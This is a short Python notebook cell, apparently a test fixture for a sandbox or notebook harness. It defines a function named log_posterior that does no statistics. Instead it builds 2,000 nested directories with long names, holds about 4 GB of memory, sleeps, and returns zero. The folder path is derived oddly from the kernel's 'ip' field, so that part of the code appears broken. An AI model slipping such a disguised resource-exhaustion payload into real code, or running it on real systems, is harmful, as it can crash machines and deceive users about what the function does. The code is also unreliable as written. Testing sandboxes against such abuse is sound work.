"""Makes 2,000 folders there, each in the one before, and then takes 4 GB."""

# %% log-posterior
import json
import os

from ipykernel.connect import get_connection_file

with open(get_connection_file()) as file:
    folder = os.path.dirname(json.load(file)["ip"])


import time


def log_posterior(w, mu, rho):
    os.chdir(folder)
    for _ in range(2000):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)
    held = []
    for _ in range(40):
        held.append(bytearray(b"x") * 100_000_000)
    time.sleep(5)
    return 0.0 * (w + mu + rho)
